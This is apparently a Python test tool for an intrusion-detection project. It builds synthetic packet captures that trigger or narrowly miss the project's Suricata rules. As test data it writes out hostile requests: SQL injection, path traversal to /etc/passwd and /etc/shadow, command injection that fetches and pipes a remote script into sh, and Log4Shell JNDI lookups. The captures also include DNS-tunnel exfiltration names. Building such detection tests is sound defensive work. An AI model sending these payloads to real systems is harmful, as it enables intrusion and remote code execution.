#!/usr/bin/env python3
"""gen_rule_pcaps.py - deterministic generator of the captures that exercise
taishi's own rules (rules/*.rules): pcaps/rules-*.pcap.

Usage:  python3 tests/tools/gen_rule_pcaps.py [OUTDIR]   (default: <repo>/pcaps/)

Design
------
* Standard library only; the packet builders (IPv4/IPv6, TCP/UDP with
  checksums, Ethernet, pcap writer, DNS/TLS payloads) are imported from
  gen_pcaps.py, the generator of the other sample captures. Nothing is
  random: two runs write byte-identical files.
* A `Cap` is one capture: a clock (2024-02-01T00:00:00Z plus 10 ms per
  packet, 1 s between flows) and a list of frames. A `Tcp` is one TCP
  connection in it: handshake, data, FIN. Besides in-order data (each
  segment ACKed by the peer, as a real stack does) it can write segments at
  any stream offset in any order, so the stream edge cases (pattern split
  over two segments, out of order, retransmission, overlap) are explicit
  here, one connection each.
* Addresses: HOME_NET clients 192.168.50.x and servers 10.20.0.x; outside
  hosts 198.51.100.x / 203.0.113.x (the default HOME_NET of Suricata and
  taishi is the RFC 1918 ranges).
* What each capture holds and which rule it must (or must not) fire is in
  rules/README.md; the expected alerts, made by Suricata 7.0.10, are in
  tests/golden/rules/ (tests/tools/make_rule_golden.sh).

Owned by tests/tools/; writes only OUTDIR/rules-*.pcap.
"""
import hashlib
import os
import sys

sys.dont_write_bytecode = True            # no __pycache__ in tests/tools
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import gen_pcaps as g  # noqa: E402

FIN, SYN, RST, PSH, ACK = g.FIN, g.SYN, g.RST, g.PSH, g.ACK
BASE = g.T(31 * 86400)                      # 2024-02-01T00:00:00Z
STEP = 10 * g.MS

ATTACKER = '198.51.100.23'
WEB = '10.20.0.80'


class Cap:
    """One capture: frames with a running clock."""

    def __init__(self):
        self.t = BASE
        self.recs = []
        self.nflows = 0

    def add(self, d, ip_pkt):
        self.recs.append(g.rec(self.t, g.link_eth(d, ip_pkt)))
        self.t += STEP

    def next_flow(self):
        self.t += 10**9 - (self.t - BASE) % 10**9      # next whole second
        self.nflows += 1

    def tcp(self, c, s, cport, sport):
        self.next_flow()
        return Tcp(self, c, s, cport, sport)

    def udp(self, c, s, cport, sport, msgs):
        self.next_flow()
        for d, data in msgs:
            src, dst, sp, dp = g._ends(d, c, s, cport, sport)
            self.add(d, g.ip(src, dst, 17, g.udp(src, dst, sp, dp, data)))

    def pcap(self):
        return g.pcap_bytes(self.recs)


class Tcp:
    """One TCP connection; direction 0 = client to server, 1 = back."""

    def __init__(self, cap, c, s, cport, sport):
        self.cap, self.c, self.s, self.cport, self.sport = cap, c, s, cport, sport
        isn = [(cport * 2654435761) & 0xffffffff,
               (sport * 40503 + cport * 977 + 0x1000000) & 0xffffffff]
        self.isn = isn
        self.nxt = [isn[0], isn[1]]            # next sequence number to send
        self.seg(0, SYN, seq=self.nxt[0], opts=g.SYN_OPTS)
        self.nxt[0] += 1
        self.seg(1, SYN | ACK, seq=self.nxt[1], opts=g.SYN_OPTS)
        self.nxt[1] += 1
        self.ack(0)

    def seg(self, d, flags, data=b'', seq=None, opts=b''):
        src, dst, sp, dp = g._ends(d, self.c, self.s, self.cport, self.sport)
        t = g.tcp(src, dst, sp, dp, self.nxt[d] if seq is None else seq,
                  self.nxt[1 - d] if flags & ACK else 0, flags, data, opts,
                  win=64240 if flags & SYN else 502)
        self.cap.add(d, g.ip(src, dst, 6, t))

    def ack(self, d):
        self.seg(d, ACK)

    def send(self, d, data, ack=True):
        """In-order data, one segment per 1448 bytes, then the peer's ACK."""
        for o in range(0, len(data), 1448):
            self.seg(d, PSH | ACK, data[o:o + 1448])
            self.nxt[d] += len(data[o:o + 1448])
        if ack:
            self.ack(1 - d)

    def pieces(self, d, parts, ack=True):
        """Write (offset, bytes) pieces of direction d's next data, in the
        order given (offsets relative to the first unsent byte; pieces may
        repeat or overlap); afterwards the stream has advanced past the
        highest byte written and the peer ACKs all of it."""
        base, end = self.nxt[d], 0
        for off, data in parts:
            self.seg(d, PSH | ACK, data, seq=base + off)
            end = max(end, off + len(data))
        self.nxt[d] = base + end
        if ack:
            self.ack(1 - d)

    def talk(self, *exchanges):
        for d, data in exchanges:
            self.send(d, data)

    def close(self):
        self.seg(0, FIN | ACK)
        self.nxt[0] += 1
        self.seg(1, FIN | ACK)
        self.nxt[1] += 1
        self.ack(0)


C2S, S2C = 0, 1


# ------------------------------------------------------------------ HTTP
def req(method, path, headers=(), body=b'', host='shop.example.local',
        ua='Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0'):
    h = ['%s %s HTTP/1.1' % (method, path), 'Host: %s' % host]
    if ua:
        h.append('User-Agent: %s' % ua)
    h += ['Accept: */*'] + list(headers)
    if body or method == 'POST':
        h.append('Content-Length: %d' % len(body))
    return ('\r\n'.join(h) + '\r\n\r\n').encode() + body


def resp(status='200 OK', body=b'<html><body>ok</body></html>\n',
         ctype='text/html'):
    return (('HTTP/1.1 %s\r\nServer: nginx/1.22.1\r\nContent-Type: %s\r\n'
             'Content-Length: %d\r\n\r\n') % (status, ctype, len(body))
            ).encode() + body


def http(cap, c, s, cport, pairs, sport=80):
    """One connection carrying (request, response) pairs (keep-alive)."""
    f = cap.tcp(c, s, cport, sport)
    for rq, rs in pairs:
        f.talk((C2S, rq), (S2C, rs))
    f.close()


PASSWD = (b'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:'
          b'/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/'
          b'nologin\n')
NOT_FOUND = resp('404 Not Found', b'<html><body>not found</body></html>\n')


def f_http():
    cap = Cap()
    a = ATTACKER
    http(cap, a, WEB, 40001, [
        (req('GET', '/products.php?id=1%20union%20select%20username,password'
                    '%20from%20users--'), resp()),
        (req('GET', '/products.php?id=2'), resp())])          # keep-alive
    http(cap, a, WEB, 40002, [(req(
        'POST', '/search.php', ['Content-Type: application/x-www-form-urlencoded'],
        b'q=1+UNION+ALL+SELECT+null,version()--&go=1'), resp())])
    http(cap, a, WEB, 40003, [
        (req('GET', "/login.php?user=admin'%20or%201=1--&pass=x"), resp()),
        (req('GET', "/login.php?user=x'%20OR%20'7'='7"), resp())])
    http(cap, a, WEB, 40004, [(req('GET', '/static/../../../../etc/passwd'),
                               resp(body=PASSWD, ctype='text/plain'))])
    http(cap, a, WEB, 40005, [(req('GET', '/download?file=..%2f..%2f..%2fetc'
                                          '%2fshadow'), NOT_FOUND)])
    http(cap, a, WEB, 40006, [(req('GET', '/cgi-bin/view?page=/etc/passwd'),
                               NOT_FOUND)])    # flowbit set, no passwd back
    http(cap, a, WEB, 40007, [(req('GET', '/cgi-bin/ping.cgi?host=127.0.0.1;'
                                          'wget%20http://203.0.113.9/x.sh'),
                               resp())])
    http(cap, a, WEB, 40008, [(req(
        'POST', '/api/diag', ['Content-Type: application/json'],
        b'{"cmd":"curl -s http://203.0.113.9/i|sh"}'), resp())])
    http(cap, '203.0.113.9', WEB, 40009, [(req(
        'GET', '/', ['X-Api-Version: ${jndi:ldap://203.0.113.9:1389/a}']),
        resp())])
    http(cap, '203.0.113.9', WEB, 40010, [(req(
        'GET', '/?x=${jndi:ldap://203.0.113.9:1389/b}'), resp())])
    http(cap, '192.168.50.40', WEB, 40011, [(req(
        'GET', '/admin/', ['Authorization: Basic YWRtaW46YWRtaW4=']),
        resp())])
    return cap


def f_scanners():
    cap = Cap()
    sqlmap = 'sqlmap/1.7.2#stable (https://sqlmap.org)'
    nikto = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)'
    for i in range(3):                  # limit 1 per source: one alert
        http(cap, '203.0.113.77', WEB, 41000 + i, [
            (req('GET', '/index.php?id=%d' % (i + 1), ua=sqlmap), resp())])
    http(cap, '203.0.113.78', WEB, 41010, [      # another source: its own alert
        (req('GET', '/index.php?id=1', ua=sqlmap), resp())])
    n = 0
    for i in range(2):                  # 5 requests, limit 2: two alerts
        pairs = []
        for _ in range(3 - i):
            n += 1
            pairs.append((req('GET', '/test%d.cgi' % n, ua=nikto % n), NOT_FOUND))
        http(cap, '203.0.113.79', WEB, 41020 + i, pairs)
    http(cap, '203.0.113.80', WEB, 41030, [(req(
        'GET', '/', ua='masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
        host='10.20.0.80'), resp())])
    http(cap, '203.0.113.81', WEB, 41031, [(req(
        'GET', '/', ua='Mozilla/5.0 zgrab/0.x', host='10.20.0.80'), resp())])
    http(cap, '203.0.113.82', WEB, 41032, [(req(
        'GET', '/robots.txt', ua='Mozilla/5.0 (compatible; Nmap Scripting Engine;'
        ' https://nmap.org/book/nse.html)'), NOT_FOUND)])
    return cap


# ------------------------------------------------------------------ Telnet, FTP, mail
IAC_DO = b'\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27'
IAC_WONT = b'\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27'
IAC_WILL_ECHO = b'\xff\xfb\x03\xff\xfb\x01'
IAC_DO_ECHO = b'\xff\xfd\x03\xff\xfd\x01'


def f_telnet():
    cap = Cap()
    f = cap.tcp('192.168.50.10', '10.20.0.23', 45000, 23)
    f.talk((S2C, IAC_DO), (C2S, IAC_WONT), (S2C, IAC_WILL_ECHO),
           (C2S, IAC_DO_ECHO),
           (S2C, b'\r\nDebian GNU/Linux 12\r\nrouter1 login: '))
    for ch in b'admin':                 # typed one key at a time, echoed
        f.talk((C2S, bytes([ch])), (S2C, bytes([ch])))
    f.talk((C2S, b'\r\n'), (S2C, b'\r\nPassword: '), (C2S, b's3cret\r\n'),
           (S2C, b'\r\nLast login: Thu Feb  1 00:00:00 UTC 2024 from '
                 b'192.168.50.10 on pts/0\r\nadmin@router1:~$ '),
           (C2S, b'exit\r\n'), (S2C, b'logout\r\n'))
    f.close()
    return cap


def f_ftp():
    cap = Cap()
    f = cap.tcp('192.168.50.11', '10.20.0.21', 45100, 21)
    f.talk((S2C, b'220 (vsFTPd 3.0.3)\r\n'), (C2S, b'USER alice\r\n'),
           (S2C, b'331 Please specify the password.\r\n'),
           (C2S, b'PASS wonderland\r\n'), (S2C, b'230 Login successful.\r\n'),
           (C2S, b'SYST\r\n'), (S2C, b'215 UNIX Type: L8\r\n'),
           (C2S, b'QUIT\r\n'), (S2C, b'221 Goodbye.\r\n'))
    f.close()
    f = cap.tcp('192.168.50.12', '10.20.0.21', 45101, 21)   # anonymous
    f.talk((S2C, b'220 (vsFTPd 3.0.3)\r\n'), (C2S, b'USER anonymous\r\n'),
           (S2C, b'331 Please specify the password.\r\n'),
           (C2S, b'PASS guest@\r\n'), (S2C, b'230 Login successful.\r\n'),
           (C2S, b'QUIT\r\n'), (S2C, b'221 Goodbye.\r\n'))
    f.close()
    # Brute force from one host: 4 failures on one connection, 2 on the
    # next (threshold count 3 by_dst: alerts on the 3rd and the 6th).
    for port, users in ((45102, ('root', 'admin', 'test', 'oracle')),
                        (45103, ('ftp1', 'guest'))):
        f = cap.tcp('203.0.113.66', '10.20.0.21', port, 21)
        f.talk((S2C, b'220 (vsFTPd 3.0.3)\r\n'))
        for u in users:
            f.talk((C2S, b'USER %s\r\n' % u.encode()),
                   (S2C, b'331 Please specify the password.\r\n'),
                   (C2S, b'PASS 123456\r\n'), (S2C, b'530 Login incorrect.\r\n'))
        f.close()
    return cap


def f_mail():
    cap = Cap()
    f = cap.tcp('192.168.50.13', '10.20.0.25', 45200, 110)
    f.talk((S2C, b'+OK POP3 server ready\r\n'), (C2S, b'USER carol\r\n'),
           (S2C, b'+OK\r\n'), (C2S, b'PASS hunter2\r\n'),
           (S2C, b'+OK Logged in.\r\n'), (C2S, b'STAT\r\n'),
           (S2C, b'+OK 0 0\r\n'), (C2S, b'QUIT\r\n'), (S2C, b'+OK Bye\r\n'))
    f.close()
    f = cap.tcp('192.168.50.13', '10.20.0.25', 45201, 143)
    f.talk((S2C, b'* OK [CAPABILITY IMAP4rev1 AUTH=PLAIN] Dovecot ready.\r\n'),
           (C2S, b'a001 LOGIN dave secretpw\r\n'),
           (S2C, b'a001 OK Logged in\r\n'), (C2S, b'a002 LOGOUT\r\n'),
           (S2C, b'* BYE Logging out\r\na002 OK Logout completed.\r\n'))
    f.close()
    ehlo = (b'250-mail.example.org\r\n250-PIPELINING\r\n250-AUTH PLAIN LOGIN\r\n'
            b'250 8BITMIME\r\n')
    f = cap.tcp('192.168.50.14', '10.20.0.25', 45202, 25)
    f.talk((S2C, b'220 mail.example.org ESMTP Postfix\r\n'),
           (C2S, b'EHLO client.example.org\r\n'), (S2C, ehlo),
           (C2S, b'AUTH PLAIN AGVyaW4AcGFzc3dvcmQ=\r\n'),
           (S2C, b'235 2.7.0 Authentication successful\r\n'),
           (C2S, b'QUIT\r\n'), (S2C, b'221 2.0.0 Bye\r\n'))
    f.close()
    f = cap.tcp('192.168.50.14', '10.20.0.25', 45203, 587)
    f.talk((S2C, b'220 mail.example.org ESMTP Postfix\r\n'),
           (C2S, b'EHLO client.example.org\r\n'), (S2C, ehlo),
           (C2S, b'AUTH LOGIN\r\n'), (S2C, b'334 VXNlcm5hbWU6\r\n'),
           (C2S, b'ZXJpbg==\r\n'), (S2C, b'334 UGFzc3dvcmQ6\r\n'),
           (C2S, b'cGFzc3dvcmQ=\r\n'),
           (S2C, b'235 2.7.0 Authentication successful\r\n'),
           (C2S, b'QUIT\r\n'), (S2C, b'221 2.0.0 Bye\r\n'))
    f.close()
    return cap


# ------------------------------------------------------------------ DNS, TLS, SSH
def dns(cap, c, s, cport, qid, name, answer='198.51.100.200'):
    cap.udp(c, s, cport, 53, [(C2S, g.dns_query(qid, name)),
                              (S2C, g.dns_response(qid, name, (answer,)))])


def dns_tcp(cap, c, s, cport, qid, name, answer='198.51.100.201'):
    f = cap.tcp(c, s, cport, 53)
    q, r = g.dns_query(qid, name), g.dns_response(qid, name, (answer,))
    f.talk((C2S, g.P('!H', len(q)) + q), (S2C, g.P('!H', len(r)) + r))
    f.close()


TUNNEL = [hashlib.sha256(b'chunk %d' % i).hexdigest()[:48] + '.t.exfil-example.com'
          for i in range(3)]


def f_dns():
    cap = Cap()
    c, s = '192.168.50.20', '192.168.1.1'
    dns(cap, c, s, 46000, 0x3001, 'myhome.duckdns.org')
    dns(cap, c, s, 46001, 0x3002, 'cam.hopto.org')
    dns(cap, c, s, 46002, 0x3003, 'ddns.net')
    dns(cap, c, s, 46003, 0x3004, 'www.example.com')       # nothing
    for i, name in enumerate(TUNNEL):                      # limit 1: one alert
        dns(cap, c, s, 46010 + i, 0x3010 + i, name)
    dns_tcp(cap, c, s, 46020, 0x3020, 'vpn.duckdns.org')
    return cap


def tls(cap, c, s, cport, sni, split=None):
    f = cap.tcp(c, s, cport, 443)
    ch = g.tls_client_hello(sni)
    if split is None:
        f.send(C2S, ch)
    else:                               # ClientHello over two segments
        f.pieces(C2S, [(0, ch[:split]), (split, ch[split:])])
    f.send(S2C, g.tls_server_hello())
    f.close()


def f_tls():
    cap = Cap()
    c = '192.168.50.30'
    tls(cap, c, '198.51.100.44', 47000, '203.0.113.5')
    tls(cap, c, '198.51.100.45', 47001, 'abcd-1234.ngrok-free.app')
    tls(cap, c, '198.51.100.46', 47002, 'home.duckdns.org')
    tls(cap, c, '198.51.100.47', 47003, 'tun1.ngrok.io', split=100)
    tls(cap, c, '198.51.100.48', 47004, 'www.example.net')  # nothing
    return cap


SSH_SRV = b'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n'


def ssh(cap, c, s, cport, client, server=SSH_SRV):
    f = cap.tcp(c, s, cport, 22)
    f.talk((S2C, server), (C2S, client))
    f.close()


def f_ssh():
    cap = Cap()
    for i in range(3):                  # limit 1 per source: one alert
        ssh(cap, '203.0.113.90', '10.20.0.22', 48000 + i, b'SSH-2.0-libssh_0.9.6\r\n')
    ssh(cap, '203.0.113.91', '10.20.0.22', 48010, b'SSH-2.0-Go\r\n')
    ssh(cap, '192.168.50.31', '198.51.100.50', 48020,
        b'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u1\r\n',
        b'SSH-1.99-OpenSSH_3.9p1\r\n')
    return cap


# ------------------------------------------------------------------ TCP stream edge cases
J = b'LOOKUP ${jndi:ldap://203.0.113.9:1389/Exploit}\r\n'   # '${' at 7
SRV9 = '10.20.0.90'


def f_tcp_edge():
    """9100132 (content "${jndi:" on the TCP stream, to_server, port not in
    $HTTP_PORTS) on one connection per case, and 9100100 on an HTTP
    request delivered out of order."""
    cap = Cap()
    cli = '203.0.113.120'

    def conn(port, *parts_lists):
        f = cap.tcp(cli, SRV9, port, 9000)
        f.send(S2C, b'READY\r\n')
        for parts in parts_lists:
            f.pieces(C2S, parts)
        f.send(S2C, b'OK\r\n')
        f.close()

    conn(49000, [(0, J)])                                   # whole, baseline
    conn(49001, [(0, J[:10]), (10, J[10:])])                # split in "${jn|di:"
    conn(49002, [(10, J[10:]), (0, J[:10])])                # same, out of order
    conn(49003, [(0, J), (0, J)])                           # retransmitted
    conn(49004, [(0, J[:12]), (8, J[8:])])                  # overlap, same bytes
    # Overlap with different bytes: the first copy of offsets 7..14 is
    # harmless, the later one completes the pattern. Suricata 7 (default
    # stream policy) keeps the first data it received.
    benign = J[:7] + b'XXXXXXXX'
    conn(49005, [(0, benign), (7, J[7:])])
    # The reverse: the pattern first, a harmless rewrite later.
    conn(49006, [(0, J), (7, b'XXXXXXXX')])
    # Three segments, the middle one last: "${j" | "nd" | "i:..."
    conn(49007, [(0, J[:9]), (11, J[11:]), (9, J[9:11])])
    # HTTP: SQL injection URI split over two segments, second one first.
    f = cap.tcp(cli, WEB, 49010, 80)
    r = req('GET', '/item.php?id=9%20UNION%20SELECT%20card_no%20FROM%20cards')
    cut = r.index(b'SELECT') + 3
    f.pieces(C2S, [(cut, r[cut:]), (0, r[:cut])])
    f.send(S2C, resp())
    f.close()
    return cap


# ------------------------------------------------------------------ near misses
def f_nearmiss():
    """Traffic close to what the rules look for; none of it may alert."""
    cap = Cap()
    a = ATTACKER
    tutorial = (b'<html><body><pre>SELECT a FROM t1 UNION SELECT b FROM t2;'
                b'</pre></body></html>\n')
    # union select in a response body (rules inspect requests)
    http(cap, a, WEB, 42000, [(req('GET', '/docs/sql?topic=union'), resp(body=tutorial))])
    # "union" in the URI, "select" in a header: different buffers
    http(cap, a, WEB, 42001, [(req('GET', '/q?w=union', ['X-Mode: select']), resp())])
    # contents match, the pcre does not ("selection")
    http(cap, a, WEB, 42002, [(req('GET', '/news?t=union%20selection%20committee'), resp())])
    # SQL injection from a home host: $EXTERNAL_NET does not match
    http(cap, '192.168.50.41', WEB, 42003, [(req('GET', '/p.php?id=1%20union%20select%201'), resp())])
    # not Basic; tautology that is not one ('1'='2')
    http(cap, a, WEB, 42004, [
        (req('GET', '/api', ['Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.x']), resp()),
        (req('GET', "/login.php?user=x'%20or%201=2"), resp())])
    # passwd contents without a /etc/passwd request on that flow
    http(cap, a, WEB, 42005, [(req('GET', '/backup.txt'), resp(body=PASSWD, ctype='text/plain'))])
    # case matters for Nikto; "|shell" is not a pipe into sh
    http(cap, a, WEB, 42006, [
        (req('GET', '/', ua='Mozilla/5.0 (compatible; nikto lowercase)'), resp()),
        (req('POST', '/api/run', ['Content-Type: application/json'],
             b'{"cmd":"ls |shellcheck"}'), resp())])
    # FTP: USER at offset 5, anonymous, a 230 with no PASS before it
    f = cap.tcp('192.168.50.12', '10.20.0.21', 42010, 21)
    f.talk((S2C, b'220 (vsFTPd 3.0.3)\r\n'), (C2S, b'HELP USER \r\n'),
           (S2C, b'214 Help OK.\r\n'), (C2S, b'USER anonymous\r\n'),
           (S2C, b'230 Login successful (no password needed).\r\n'),
           (C2S, b'QUIT\r\n'), (S2C, b'221 Goodbye.\r\n'))
    f.close()
    # SMTP: PLAIN one byte too far (offset 6), another mechanism
    f = cap.tcp('192.168.50.14', '10.20.0.25', 42011, 25)
    f.talk((S2C, b'220 mail.example.org ESMTP Postfix\r\n'),
           (C2S, b'EHLO c.example.org\r\n'), (S2C, b'250 AUTH PLAIN LOGIN CRAM-MD5\r\n'),
           (C2S, b'AUTH  PLAIN AGVyaW4AcGFzc3dvcmQ=\r\n'),
           (S2C, b'501 5.5.4 Syntax error\r\n'),
           (C2S, b'AUTH CRAM-MD5\r\n'), (S2C, b'334 PDEyMzQ1QGV4YW1wbGUub3JnPg==\r\n'),
           (C2S, b'ZXJpbiA5ZjNk\r\n'), (S2C, b'235 2.7.0 OK\r\n'),
           (C2S, b'QUIT\r\n'), (S2C, b'221 2.0.0 Bye\r\n'))
    f.close()
    # POP3 APOP (no USER/PASS)
    f = cap.tcp('192.168.50.13', '10.20.0.25', 42012, 110)
    f.talk((S2C, b'+OK POP3 ready <1896.697170952@mail.example.org>\r\n'),
           (C2S, b'APOP carol c4c9334bac560ecc979e58001b3e22fb\r\n'),
           (S2C, b'+OK\r\n'), (C2S, b'QUIT\r\n'), (S2C, b'+OK\r\n'))
    f.close()
    # JNDI string: server to client; to port 80 (in $HTTP_PORTS) not HTTP
    f = cap.tcp('203.0.113.120', SRV9, 42013, 9000)
    f.talk((C2S, b'HELLO\r\n'), (S2C, J))
    f.close()
    f = cap.tcp('203.0.113.120', WEB, 42014, 80)
    f.talk((C2S, J), (S2C, b'ERR\r\n'))
    f.close()
    # DNS: suffix elsewhere, dotprefix boundary, query from outside HOME_NET
    for i, (c, name) in enumerate([('192.168.50.20', 'duckdns.org.evil.example'),
                                   ('192.168.50.20', 'notduckdns.org'),
                                   ('192.168.50.20', 'hopto.org.example.net'),
                                   ('192.168.50.20', 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f.ex.com'),
                                   ('203.0.113.20', 'x.duckdns.org')]):
        dns(cap, c, '192.168.1.1', 42020 + i, 0x4000 + i, name)
    # TLS: an IP followed by a name; ngrok not at the end
    tls(cap, '192.168.50.30', '198.51.100.60', 42030, '1.2.3.4.nip.io')
    tls(cap, '192.168.50.30', '198.51.100.61', 42031, 'ngrok.io.example.com')
    # SSH: Go-like but longer, other library, server on protocol 2.0
    ssh(cap, '203.0.113.91', '10.20.0.22', 42040, b'SSH-2.0-Gopher_1.0\r\n')
    ssh(cap, '203.0.113.92', '10.20.0.22', 42041, b'SSH-2.0-paramiko_3.4.0\r\n')
    # Telnet without a login prompt (a banner only)
    f = cap.tcp('192.168.50.10', '10.20.0.23', 42050, 23)
    f.talk((S2C, b'\r\nAuthorized access only. Last login: never\r\n'),
           (C2S, b'\r\n'))
    f.close()
    return cap


CAPTURES = [
    ('rules-http.pcap', f_http),
    ('rules-scanners.pcap', f_scanners),
    ('rules-telnet.pcap', f_telnet),
    ('rules-ftp.pcap', f_ftp),
    ('rules-mail.pcap', f_mail),
    ('rules-dns.pcap', f_dns),
    ('rules-tls.pcap', f_tls),
    ('rules-ssh.pcap', f_ssh),
    ('rules-tcp-edge.pcap', f_tcp_edge),
    ('rules-nearmiss.pcap', f_nearmiss),
]


def build(outdir):
    os.makedirs(outdir, exist_ok=True)
    for name, fn in CAPTURES:
        g.reset_ids()
        cap = fn()
        data = cap.pcap()
        assert len(data) < 50 * 1024, name
        with open(os.path.join(outdir, name), 'wb') as f:
            f.write(data)
        print('%-24s %5d packets %3d flows %8d bytes'
              % (name, len(cap.recs), cap.nflows, len(data)))


if __name__ == '__main__':
    build(sys.argv[1] if len(sys.argv) > 1 else os.path.join(
        os.path.dirname(os.path.abspath(__file__)), '..', '..', 'pcaps'))
